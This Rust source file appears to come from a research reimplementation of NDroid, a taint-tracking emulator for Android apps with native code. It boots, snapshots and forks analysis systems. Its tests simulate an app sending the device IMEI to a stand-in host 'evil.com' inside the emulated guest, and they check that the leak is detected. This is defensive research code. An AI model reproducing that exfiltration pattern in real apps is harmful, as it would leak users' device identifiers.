//! [`NDroidSystem`]: a complete analyzed Android world — the
//! counterpart of "NDroid is implemented in QEMU … Executing TaintDroid
//! in the modified QEMU, NDroid employs it to run apps and track
//! information flow in the Java context. NDroid handles the
//! information flows through JNI." (§VI)

use crate::analysis::{AnalysisStats, NDroidAnalysis};
use crate::baseline::{DroidScopeLikeAnalysis, TaintDroidAnalysis};
use crate::config::{EngineKind, SystemConfig};
use crate::oracle::ReferenceAnalysis;
use crate::report::RunReport;
use ndroid_arm::asm::CodeBlock;
use ndroid_arm::{Cpu, Memory};
use ndroid_dvm::{Dvm, DvmError, LeakEvent, Program, Taint};
use ndroid_emu::kernel::Kernel;
use ndroid_emu::layout;
use ndroid_emu::os_view::{self, ProcessView, TaskWriter, Vma};
use ndroid_emu::runtime::{Analysis, GuestRunner, HostTable, VanillaAnalysis};
use ndroid_emu::shadow::ShadowState;
use ndroid_emu::trace::TraceLog;
use ndroid_jni::install_jni;
use ndroid_libc::install_all;
use ndroid_provenance::{FlowGraph, Handle, ProvEvent};
use std::sync::OnceLock;

/// Which analysis configuration runs the app.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Mode {
    /// Unmodified emulator + unmodified DVM (the CF-Bench baseline).
    Vanilla,
    /// TaintDroid only: Java-context tracking, the conservative JNI
    /// return policy, and nothing in the native context.
    TaintDroid,
    /// Full NDroid: TaintDroid plus the JNI hook engines and the
    /// native instruction tracer.
    NDroid,
    /// DroidScope-like whole-system tracer (no JNI semantic shortcuts).
    DroidScopeLike,
}

impl std::fmt::Display for Mode {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = match self {
            Mode::Vanilla => "vanilla",
            Mode::TaintDroid => "taintdroid",
            Mode::NDroid => "ndroid",
            Mode::DroidScopeLike => "droidscope-like",
        };
        write!(f, "{s}")
    }
}

#[derive(Clone)]
enum AnalysisBox {
    Vanilla(VanillaAnalysis),
    TaintDroid(TaintDroidAnalysis),
    NDroid(Box<NDroidAnalysis>),
    DroidScope(Box<DroidScopeLikeAnalysis>),
    /// The differential oracle's reference engine substituted for the
    /// optimized NDroid tracer (see [`crate::oracle`]).
    Reference(Box<ReferenceAnalysis>),
}

impl AnalysisBox {
    fn as_dyn(&mut self) -> &mut dyn Analysis {
        match self {
            AnalysisBox::Vanilla(a) => a,
            AnalysisBox::TaintDroid(a) => a,
            AnalysisBox::NDroid(a) => a.as_mut(),
            AnalysisBox::DroidScope(a) => a.as_mut(),
            AnalysisBox::Reference(a) => a.as_mut(),
        }
    }
}

/// The assembled system: emulator, DVM, kernel, host-function table
/// and the selected analysis.
pub struct NDroidSystem {
    /// Guest CPU.
    pub cpu: Cpu,
    /// Guest memory.
    pub mem: Memory,
    /// The Dalvik VM.
    pub dvm: Dvm,
    /// Shadow taint state.
    pub shadow: ShadowState,
    /// Simulated kernel.
    pub kernel: Kernel,
    /// Analysis trace log.
    pub trace: TraceLog,
    /// Guest instruction budget for the whole session.
    pub budget: u64,
    /// Host-function table (JNI + libc + libm): NDroid's "list of
    /// their addresses and the corresponding analysis functions"
    /// (§V-G), built once per process and borrowed by every boot and
    /// fork on every thread.
    pub table: &'static HostTable,
    /// Kernel task table (input to the OS-level view reconstructor).
    pub tasks: TaskWriter,
    /// Decoded-instruction cache for the guest interpreter (page-wise
    /// invalidated against memory write generations; `enabled` is the
    /// A/B knob the `BENCH_taint` suite flips).
    pub icache: ndroid_arm::icache::DecodeCache,
    /// Superblock cache: straight-line effect programs compiled once
    /// per (page, entry) and replayed as single dispatches, invalidated
    /// against the same memory write generations as the icache.
    pub blocks: ndroid_arm::block::BlockCache,
    analysis: AnalysisBox,
    /// The configuration this system runs under.
    pub mode: Mode,
    /// The provenance recorder. The same store is shared (via cloned
    /// handles) with the DVM, the shadow state and the kernel, so
    /// Java-context, JNI-boundary and native events interleave in one
    /// globally ordered stream.
    prov: Handle,
}

impl std::fmt::Debug for NDroidSystem {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("NDroidSystem")
            .field("mode", &self.mode)
            .field("budget", &self.budget)
            .finish()
    }
}

/// Builds the analysis box `config` describes (and applies the
/// DroidScope per-bytecode tax to the DVM when that mode is selected).
fn analysis_for(config: &SystemConfig, dvm: &mut Dvm) -> AnalysisBox {
    match config.mode {
        Mode::Vanilla => AnalysisBox::Vanilla(VanillaAnalysis),
        Mode::TaintDroid => AnalysisBox::TaintDroid(TaintDroidAnalysis),
        Mode::NDroid => match config.engine {
            EngineKind::Optimized => AnalysisBox::NDroid(Box::default()),
            EngineKind::Reference => AnalysisBox::Reference(Box::default()),
        },
        Mode::DroidScopeLike => {
            dvm.per_insn_tax = DroidScopeLikeAnalysis::JAVA_WORK;
            AnalysisBox::DroidScope(Box::new(DroidScopeLikeAnalysis::new()))
        }
    }
}

/// The host-function table, built on the first boot in the process:
/// every entry is a pure function of the static name lists.
fn host_table() -> &'static HostTable {
    static TABLE: OnceLock<HostTable> = OnceLock::new();
    TABLE.get_or_init(|| {
        let mut table = HostTable::new();
        install_all(&mut table);
        install_jni(&mut table);
        table
    })
}

impl NDroidSystem {
    /// Boots a system for `program` under `mode` with every other
    /// setting at its default (equivalent to
    /// `from_config(program, SystemConfig::new(mode))`).
    pub fn new(program: Program, mode: Mode) -> NDroidSystem {
        NDroidSystem::from_config(program, SystemConfig::new(mode))
    }

    /// Boots the system `config` describes — the one constructor every
    /// other entry point funnels through.
    pub fn from_config(program: Program, config: SystemConfig) -> NDroidSystem {
        let mode = config.mode;
        let mut cpu = Cpu::new();
        cpu.regs[13] = layout::NATIVE_STACK_TOP;
        let mut dvm = Dvm::new(program);
        dvm.taint_tracking = mode != Mode::Vanilla;
        let prov = Handle::with_capacity(config.provenance, config.provenance_capacity);
        dvm.prov = prov.clone();
        let analysis = analysis_for(&config, &mut dvm);
        let mut tasks = TaskWriter::new();
        // The usual Android cast: zygote and system_server exist in the
        // kernel task list alongside the app under analysis, so the
        // OS-level view reconstructor has a realistic multi-process
        // table to walk (§V-F).
        tasks.upsert(ProcessView {
            pid: 1,
            comm: "init".into(),
            vmas: vec![],
        });
        tasks.upsert(ProcessView {
            pid: 52,
            comm: "zygote".into(),
            vmas: vec![Vma {
                start: layout::LIBDVM_BASE,
                end: layout::LIBDVM_BASE + 0x0100_0000,
                name: "libdvm.so".into(),
            }],
        });
        tasks.upsert(ProcessView {
            pid: 1347,
            comm: "app_process".into(),
            vmas: vec![
                Vma {
                    start: layout::LIBDVM_BASE,
                    end: layout::LIBDVM_BASE + 0x0100_0000,
                    name: "libdvm.so".into(),
                },
                Vma {
                    start: layout::LIBC_BASE,
                    end: layout::LIBC_BASE + 0x0100_0000,
                    name: "libc.so".into(),
                },
                Vma {
                    start: layout::LIBM_BASE,
                    end: layout::LIBM_BASE + 0x0100_0000,
                    name: "libm.so".into(),
                },
            ],
        });
        let mut mem = Memory::new();
        tasks.flush(&mut mem);
        let mut icache = ndroid_arm::icache::DecodeCache::new();
        // The reference engine runs with no fast path at all.
        icache.enabled = config.engine == EngineKind::Optimized;
        let mut blocks = ndroid_arm::block::BlockCache::new();
        blocks.enabled = config.blocks && config.engine == EngineKind::Optimized;
        let mut shadow = ShadowState::new();
        shadow.prov = prov.clone();
        let mut kernel = Kernel::new();
        kernel.prov = prov.clone();
        NDroidSystem {
            cpu,
            mem,
            dvm,
            shadow,
            kernel,
            trace: if config.quiet {
                TraceLog::disabled()
            } else {
                TraceLog::new()
            },
            budget: config.budget,
            table: host_table(),
            tasks,
            icache,
            blocks,
            analysis,
            mode,
            prov,
        }
    }

    /// Loads a native library's machine code into guest memory and
    /// registers its VMA with the kernel task table (which the OS-level
    /// view reconstructor reads back, §V-F).
    pub fn load_native(&mut self, code: &CodeBlock, lib_name: &str) {
        self.mem.write_bytes(code.base, &code.bytes);
        self.tasks.add_vma(
            1347,
            Vma {
                start: code.base,
                end: code.end(),
                name: lib_name.to_string(),
            },
        );
        self.tasks.flush(&mut self.mem);
        self.trace
            .push("load", format_args!("{lib_name} @ {:#x}..{:#x}", code.base, code.end()));
    }

    /// Runs the OS-level view reconstructor over raw guest memory.
    pub fn os_view(&self) -> Vec<ProcessView> {
        os_view::reconstruct(&self.mem)
    }

    /// Disassembles a loaded module found via the OS-level view (the
    /// workflow NDroid's authors performed by hand on `libdvm.so`).
    /// Returns `None` when no process maps a module with that name.
    pub fn disassemble_module(&self, lib_name: &str) -> Option<Vec<ndroid_arm::disasm::DisasmLine>> {
        let procs = self.os_view();
        let vma = procs
            .iter()
            .flat_map(|p| p.vmas.iter())
            .find(|v| v.name == lib_name)?;
        Some(ndroid_arm::disasm::disassemble_arm(
            &self.mem, vma.start, vma.end,
        ))
    }

    /// Invokes a Java method (the app's entry point), with natives
    /// dispatched to the emulator under the active analysis.
    ///
    /// # Errors
    ///
    /// Interpreter and guest-execution failures.
    pub fn run_java(
        &mut self,
        class: &str,
        method: &str,
        args: &[(u32, Taint)],
    ) -> Result<(u32, Taint), DvmError> {
        let m = self.dvm.program.find_method_by_name(class, method)?;
        let mut runner = GuestRunner {
            cpu: &mut self.cpu,
            mem: &mut self.mem,
            shadow: &mut self.shadow,
            kernel: &mut self.kernel,
            trace: &mut self.trace,
            analysis: self.analysis.as_dyn(),
            budget: &mut self.budget,
            icache: &mut self.icache,
            blocks: &mut self.blocks,
            table: self.table,
        };
        self.dvm.invoke_with(m, args, &mut runner)
    }

    /// Runs raw native code at `entry` with AAPCS `args` (used by
    /// pure-native Type-III workloads and the CF-Bench kernels).
    ///
    /// # Errors
    ///
    /// Guest execution failures.
    pub fn run_native(
        &mut self,
        entry: u32,
        args: &[u32],
    ) -> Result<(u32, Taint), ndroid_emu::EmuError> {
        let mut ctx = ndroid_emu::runtime::NativeCtx {
            cpu: &mut self.cpu,
            mem: &mut self.mem,
            dvm: &mut self.dvm,
            shadow: &mut self.shadow,
            kernel: &mut self.kernel,
            trace: &mut self.trace,
            analysis: self.analysis.as_dyn(),
            budget: &mut self.budget,
            icache: &mut self.icache,
            blocks: &mut self.blocks,
        };
        ndroid_emu::runtime::call_guest(&mut ctx, self.table, entry, args, |_, _| {})
    }

    /// Every sink invocation (Java and native contexts), in the order
    /// they were recorded within each context.
    pub fn all_sink_events(&self) -> Vec<&LeakEvent> {
        self.dvm
            .events
            .iter()
            .chain(self.kernel.events.iter())
            .collect()
    }

    /// The detected leaks (tainted sink hits) across both contexts.
    pub fn leaks(&self) -> Vec<&LeakEvent> {
        self.all_sink_events()
            .into_iter()
            .filter(|e| e.is_leak())
            .collect()
    }

    /// NDroid analysis statistics (when running in NDroid mode).
    pub fn ndroid_stats(&self) -> Option<&AnalysisStats> {
        match &self.analysis {
            AnalysisBox::NDroid(a) => Some(&a.stats),
            _ => None,
        }
    }

    /// Mutable access to the NDroid analysis (for ablation knobs).
    pub fn ndroid_analysis_mut(&mut self) -> Option<&mut NDroidAnalysis> {
        match &mut self.analysis {
            AnalysisBox::NDroid(a) => Some(a.as_mut()),
            _ => None,
        }
    }

    /// Which tracer engine this system runs (derived from the installed
    /// analysis, so it cannot desynchronize).
    pub fn engine(&self) -> EngineKind {
        match &self.analysis {
            AnalysisBox::Reference(_) => EngineKind::Reference,
            _ => EngineKind::Optimized,
        }
    }

    /// The one result type: everything externally observable about the
    /// finished run — sink events, leaks, the kernel's network log,
    /// protection violations, analysis statistics and work counters —
    /// snapshotted into a [`RunReport`]. [`crate::report::CaseOutcome`],
    /// [`crate::batch::BatchReport`] and the experiment binaries all
    /// build from this instead of poking at the system.
    pub fn report(&self) -> RunReport {
        let (violations, mut stats) = match &self.analysis {
            AnalysisBox::NDroid(a) => (a.violations.clone(), Some(a.stats.clone())),
            AnalysisBox::Reference(a) => {
                (a.violations().to_vec(), Some(a.inner().stats.clone()))
            }
            _ => (Vec::new(), None),
        };
        // Surface the block-cache counters (held by the session cache,
        // not the analysis) alongside the analysis statistics.
        if let Some(s) = stats.as_mut() {
            s.block_hits = self.blocks.hits;
            s.block_misses = self.blocks.misses;
            s.block_invalidations = self.blocks.invalidations;
            s.blocks_built = self.blocks.built;
        }
        let provenance_store = self.prov.freeze();
        RunReport {
            mode: self.mode,
            engine: self.engine(),
            sink_events: self.all_sink_events().into_iter().cloned().collect(),
            network_log: self.kernel.network_log.clone(),
            violations,
            stats,
            native_insns: self.native_insns(),
            bytecodes: self.bytecodes(),
            provenance: provenance_store
                .as_ref()
                .map(|s| s.summary(self.prov.level())),
            provenance_store,
        }
    }

    /// The provenance recorder handle (shared with the DVM, shadow
    /// state and kernel).
    pub fn provenance(&self) -> &Handle {
        &self.prov
    }

    /// A snapshot of the recorded provenance events, in emission order.
    pub fn prov_events(&self) -> Vec<ProvEvent> {
        self.prov.snapshot()
    }

    /// Builds the leak-path flow graph over the recorded provenance
    /// events (empty when provenance is [`ndroid_provenance::Level::Off`]).
    pub fn flow_graph(&self) -> FlowGraph {
        self.prov.flow_graph()
    }

    /// The reference analysis, when the system was booted with
    /// `SystemConfig::reference()` (engine = [`EngineKind::Reference`]).
    pub fn reference_analysis(&self) -> Option<&ReferenceAnalysis> {
        match &self.analysis {
            AnalysisBox::Reference(a) => Some(a.as_ref()),
            _ => None,
        }
    }

    /// Guest (ARM) instructions retired so far.
    pub fn native_insns(&self) -> u64 {
        self.cpu.insn_count
    }

    /// Dalvik bytecodes interpreted so far.
    pub fn bytecodes(&self) -> u64 {
        self.dvm.bytecode_executed
    }

    /// Forces a moving-GC cycle (all object addresses change) — used to
    /// demonstrate that indirect-reference-keyed taints survive (D4).
    pub fn force_gc(&mut self) {
        self.dvm.gc();
        self.trace.push("gc", format_args!("compaction #{}", self.dvm.heap.gc_cycles));
    }

    /// Captures a copy-on-write [`Snapshot`] of the entire system.
    ///
    /// The snapshot is an immutable image: guest memory pages, the
    /// paged taint shadow and the DVM heap objects are `Rc`-shared
    /// with it rather than copied, so capturing costs O(page-table)
    /// and each [`Snapshot::fork`] the same — pages are deep-copied
    /// lazily, one at a time, on first write after the fork. The
    /// original system remains fully usable; its subsequent mutations
    /// never bleed into the snapshot (or vice versa).
    pub fn snapshot(&self) -> Snapshot {
        Snapshot {
            sys: self.fork_clone(),
        }
    }

    /// The one fork path, used symmetrically by [`NDroidSystem::snapshot`]
    /// (system → frozen image) and [`Snapshot::fork`] (frozen image →
    /// runnable system), so both directions share the exact same
    /// coherency rules:
    ///
    /// - guest memory is [`Memory::fork`]ed: pages `Rc`-shared, a
    ///   **fresh epoch** drawn so any *foreign* slot-pinned cache that
    ///   later sees this memory self-clears instead of serving stale
    ///   decodes;
    /// - the decode and superblock caches are cloned and then
    ///   `rebind_epoch`-ed to the fork's epoch: their contents were
    ///   built against byte-identical pages with identical write
    ///   generations, so they stay warm and their hit/miss/invalidation
    ///   counters replay exactly as a fresh run would produce them;
    /// - the provenance store is forked (sealed segments `Arc`-shared,
    ///   the unsealed hot tier cloned) and the forked handle re-wired
    ///   into the DVM, shadow state and kernel so all four views keep
    ///   appending to *one* store per fork.
    fn fork_clone(&self) -> NDroidSystem {
        let mem = self.mem.fork();
        let epoch = mem.epoch();
        let mut icache = self.icache.clone();
        icache.rebind_epoch(epoch);
        let mut blocks = self.blocks.clone();
        blocks.rebind_epoch(epoch);
        let analysis = self.analysis.clone();
        let prov = self.prov.fork();
        let mut dvm = self.dvm.clone();
        dvm.prov = prov.clone();
        let mut shadow = self.shadow.clone();
        shadow.prov = prov.clone();
        let mut kernel = self.kernel.clone();
        kernel.prov = prov.clone();
        NDroidSystem {
            cpu: self.cpu.clone(),
            mem,
            dvm,
            shadow,
            kernel,
            trace: self.trace.clone(),
            budget: self.budget,
            table: self.table,
            tasks: self.tasks.clone(),
            icache,
            blocks,
            analysis,
            mode: self.mode,
            prov,
        }
    }
}

/// A frozen copy-on-write image of an [`NDroidSystem`], captured by
/// [`NDroidSystem::snapshot`]. Cheap to hold (it `Rc`-shares every
/// page-sized piece of state with whoever captured it) and cheap to
/// [`fork`](Snapshot::fork) from — boot an app once, warm it up, then
/// fan out hundreds of divergent scenarios from the same image
/// without paying the boot cost per run.
#[derive(Debug)]
pub struct Snapshot {
    sys: NDroidSystem,
}

impl Snapshot {
    /// A fresh, fully runnable system continuing from this image.
    /// Every fork is independent: writes privatize pages lazily and
    /// never disturb the snapshot or sibling forks, and a forked run
    /// produces a [`RunReport`] identical to what a freshly booted
    /// system driven the same way would produce (the determinism gate
    /// in `crates/apps` pins this across all engines).
    pub fn fork(&self) -> NDroidSystem {
        self.sys.fork_clone()
    }

    /// The mode the underlying system was booted in.
    pub fn mode(&self) -> Mode {
        self.sys.mode
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_dvm::framework::install_framework;

    fn boot(mode: Mode) -> NDroidSystem {
        let mut p = Program::new();
        install_framework(&mut p);
        NDroidSystem::new(p, mode)
    }

    #[test]
    fn boots_in_every_mode() {
        for mode in [
            Mode::Vanilla,
            Mode::TaintDroid,
            Mode::NDroid,
            Mode::DroidScopeLike,
        ] {
            let sys = boot(mode);
            assert_eq!(sys.mode, mode);
            assert!(!sys.table.is_empty());
            assert_eq!(
                sys.dvm.taint_tracking,
                mode != Mode::Vanilla,
                "{mode}: DVM tracking wired to mode"
            );
        }
    }

    #[test]
    fn os_view_sees_system_libraries() {
        let sys = boot(Mode::NDroid);
        let procs = sys.os_view();
        assert_eq!(procs.len(), 3, "init + zygote + the app");
        let app = procs.iter().find(|p| p.comm == "app_process").unwrap();
        assert!(app.module_base("libdvm.so").is_some());
        assert!(app.module_base("libc.so").is_some());
        assert!(procs.iter().any(|p| p.comm == "zygote"));
    }

    #[test]
    fn load_native_registers_vma() {
        use ndroid_arm::{Assembler, Reg};
        let mut sys = boot(Mode::NDroid);
        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
        asm.bx(Reg::LR);
        let code = asm.assemble().unwrap();
        sys.load_native(&code, "libdemo.so");
        let procs = sys.os_view();
        let app = procs.iter().find(|p| p.comm == "app_process").unwrap();
        assert_eq!(
            app.module_base("libdemo.so"),
            Some(layout::NATIVE_CODE_BASE)
        );
        assert_eq!(
            app.module_at(layout::NATIVE_CODE_BASE)
                .map(|v| v.name.as_str()),
            Some("libdemo.so"),
            "reconstructor resolves the third-party library"
        );
    }

    #[test]
    fn java_source_to_sink_detected_in_all_tracking_modes() {
        for mode in [Mode::TaintDroid, Mode::NDroid, Mode::DroidScopeLike] {
            let mut p = Program::new();
            install_framework(&mut p);
            let mut sys = NDroidSystem::new(p, mode);
            let imei = sys.dvm.invoke_by_name(
                "Landroid/telephony/TelephonyManager;",
                "getDeviceId",
                &[],
                &mut ndroid_dvm::interp::NoNatives,
            );
            let (v, t) = imei.unwrap();
            let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
            sys.dvm
                .invoke_by_name(
                    "Ljava/net/Socket;",
                    "send",
                    &[(dest, Taint::CLEAR), (v, t)],
                    &mut ndroid_dvm::interp::NoNatives,
                )
                .unwrap();
            assert_eq!(sys.leaks().len(), 1, "{mode}: pure-Java leak caught");
        }
    }

    /// Drives the canonical pure-Java leak through `sys`.
    fn java_leak(sys: &mut NDroidSystem) {
        let (v, t) = sys
            .dvm
            .invoke_by_name(
                "Landroid/telephony/TelephonyManager;",
                "getDeviceId",
                &[],
                &mut ndroid_dvm::interp::NoNatives,
            )
            .unwrap();
        let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
        sys.dvm
            .invoke_by_name(
                "Ljava/net/Socket;",
                "send",
                &[(dest, Taint::CLEAR), (v, t)],
                &mut ndroid_dvm::interp::NoNatives,
            )
            .unwrap();
    }

    #[test]
    fn forked_run_reports_equal_fresh_run() {
        let mut p = Program::new();
        install_framework(&mut p);
        let snap = NDroidSystem::new(p.clone(), Mode::NDroid).snapshot();
        let mut forked = snap.fork();
        java_leak(&mut forked);
        let mut fresh = NDroidSystem::new(p, Mode::NDroid);
        java_leak(&mut fresh);
        assert_eq!(forked.report(), fresh.report());
        assert_eq!(forked.leaks().len(), 1);
    }

    #[test]
    fn snapshot_isolates_parent_and_forks() {
        let mut p = Program::new();
        install_framework(&mut p);
        let mut parent = NDroidSystem::new(p, Mode::NDroid);
        let snap = parent.snapshot();

        // Mutate the parent heavily after capturing: its divergence
        // must never bleed into the image or later forks.
        java_leak(&mut parent);
        parent.mem.write_bytes(0x7000, &[0xAA; 64]);
        parent.force_gc();
        assert_eq!(parent.leaks().len(), 1);

        let mut a = snap.fork();
        assert!(a.leaks().is_empty(), "fork predates the parent's leak");
        assert_eq!(a.mem.read_u8(0x7000), 0, "parent writes stayed private");
        java_leak(&mut a);

        // A sibling fork is isolated from `a` too.
        let b = snap.fork();
        assert!(b.leaks().is_empty());
        assert_eq!(a.leaks().len(), 1);
    }

    #[test]
    fn vanilla_mode_sees_no_taint() {
        let mut sys = boot(Mode::Vanilla);
        let (v, t) = sys
            .dvm
            .invoke_by_name(
                "Landroid/telephony/TelephonyManager;",
                "getDeviceId",
                &[],
                &mut ndroid_dvm::interp::NoNatives,
            )
            .unwrap();
        assert!(t.is_clear());
        let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
        sys.dvm
            .invoke_by_name(
                "Ljava/net/Socket;",
                "send",
                &[(dest, Taint::CLEAR), (v, Taint::CLEAR)],
                &mut ndroid_dvm::interp::NoNatives,
            )
            .unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.all_sink_events().len(), 1);
    }
}
